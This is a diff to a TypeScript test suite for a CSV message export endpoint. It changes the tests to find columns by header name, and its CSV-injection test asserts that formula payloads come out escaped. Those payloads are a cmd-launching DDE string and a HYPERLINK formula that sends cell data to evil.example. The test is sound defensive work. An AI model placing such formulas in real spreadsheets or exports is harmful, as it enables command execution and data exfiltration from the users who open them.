@@ -6,6 +6,9 @@ import { BACKENDS, createTestDatabase, type TestDatabase } from '../test-databas
 import { buildTestApp, INGEST_TOKEN } from './app-helper';
 
 const rowsOf = (csv: string) => (parse(csv.replace(/^\uFEFF/, '')) as string[][]).slice(1);
+/** A column's index by its header name, so a new column does not shift what a test reads. */
+const columnOf = (csv: string, name: string) =>
+  (parse(csv.replace(/^\uFEFF/, '')) as string[][])[0]?.findIndex((h) => h.startsWith(name)) ?? -1;
 
 describe.each(BACKENDS)('GET /api/v1/export/messages.csv (%s)', (backend) => {
   let db: TestDatabase;
@@ -31,11 +34,13 @@ describe.each(BACKENDS)('GET /api/v1/export/messages.csv (%s)', (backend) => {
         AND m.created_at >= '2025-03-01T00:00:00+01:00' AND m.created_at < '2025-04-01T00:00:00+02:00'`;
     expect(rows.length).toBe(expected?.n);
     expect(rows.length).toBeGreaterThan(0);
-    expect(new Set(rows.map((r) => r[8]))).toEqual(new Set(['VIII. kerület']));
+    expect(new Set(rows.map((r) => r[columnOf(response.body, 'district')]))).toEqual(
+      new Set(['VIII. kerület']),
+    );
     const created = rows.map((r) => r[1] ?? '');
     expect([...created].sort().reverse()).toEqual(created);
     const one = (await app.inject({ url: `/api/v1/messages/${rows[0]?.[0]}` })).json();
-    expect(rows[0]?.[11]).toBe(one.title ?? '');
+    expect(rows[0]?.[columnOf(response.body, 'title')]).toBe(one.title ?? '');
   });
 
   it('a field that starts like a formula reaches the spreadsheet as text (OWASP CSV injection)', async () => {
@@ -70,7 +75,9 @@ describe.each(BACKENDS)('GET /api/v1/export/messages.csv (%s)', (backend) => {
     );
     expect(lines[1]).toContain(`,"'+cmd|' /C calc'!A0",`);
     const [row] = rowsOf(response.body);
-    expect(row?.[11]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Kattints")`);
+    expect(row?.[columnOf(response.body, 'title')]).toBe(
+      `'=HYPERLINK("http://evil.example/?"&A1,"Kattints")`,
+    );
   });
 
   it('a municipal account exports only its own district, and asking for another is 403', async () => {
